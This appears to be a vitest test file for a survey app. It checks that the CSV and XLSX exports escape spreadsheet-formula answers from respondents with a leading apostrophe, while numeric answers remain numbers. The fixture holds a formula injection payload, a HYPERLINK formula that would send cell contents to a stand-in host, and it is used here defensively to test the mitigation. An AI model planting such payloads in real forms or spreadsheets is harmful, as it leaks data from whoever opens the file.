// Formula injection through a public survey answer: a respondent's free text that a spreadsheet
// would run (=HYPERLINK…) comes out of the CSV and XLSX exports as text (leading '), while
// numeric answers stay numbers. Runs on PGlite and PostgreSQL.
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createOrg, createTestApp, login, type Session } from '../../../test/harness';

let t: Awaited<ReturnType<typeof createTestApp>>;
let owner: Session;
const EVIL = '=HYPERLINK("http://evil.test/?"&A1,"clic")';

beforeAll(async () => {
  t = await createTestApp();
  owner = await login(t.app, (await createOrg(t.db, 'Inyección')).users.owner);
});
afterAll(async () => {
  await t.app.close();
  await t.db.close();
});

const get = (url: string) => t.app.inject({ method: 'GET', url, headers: owner.headers });

it('neutralises respondent text in the CSV and XLSX exports; numbers stay numbers', async () => {
  const c = await t.app.inject({
    method: 'POST',
    url: '/api/surveys',
    headers: owner.headers,
    payload: { name: 'Injection', template: 'csat_transactional' },
  });
  const id = c.json().id as string;
  const p = await t.app.inject({
    method: 'POST',
    url: `/api/surveys/${id}/publish`,
    headers: owner.headers,
  });
  const r = await t.app.inject({
    method: 'POST',
    url: `/api/public/surveys/${p.json().slug}/responses`,
    payload: { id: randomUUID(), status: 'complete', answers: { csat: 2, comment: EVIL } },
  });
  expect(r.statusCode, r.body).toBe(201);

  for (const shape of ['wide', 'long']) {
    const csv = await get(`/api/surveys/${id}/export?format=csv&shape=${shape}`);
    expect(csv.statusCode).toBe(200);
    const cells = (parse(csv.body.replace(/^\ufeff/, '')) as string[][]).flat();
    expect(cells).toContain(`'${EVIL}`);
    expect(cells).not.toContain(EVIL);
  }
  const wide = parse(
    (await get(`/api/surveys/${id}/export?format=csv&shape=wide`)).body.replace(/^\ufeff/, ''),
    { columns: true },
  ) as Record<string, string>[];
  expect(wide[0]?.csat).toBe('2'); // unquoted number, as `fidelia analyze` reads it

  const x = await get(`/api/surveys/${id}/export?format=xlsx`);
  expect(x.statusCode).toBe(200);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(x.rawPayload as unknown as ArrayBuffer);
  const ws = wb.getWorksheet('Respuestas');
  const head = (ws?.getRow(1).values as unknown[]) ?? [];
  const row = (ws?.getRow(2).values as unknown[]) ?? [];
  expect(row[head.indexOf('comment')]).toBe(`'${EVIL}`);
  expect(row[head.indexOf('csat')]).toBe(2); // a numeric cell
});
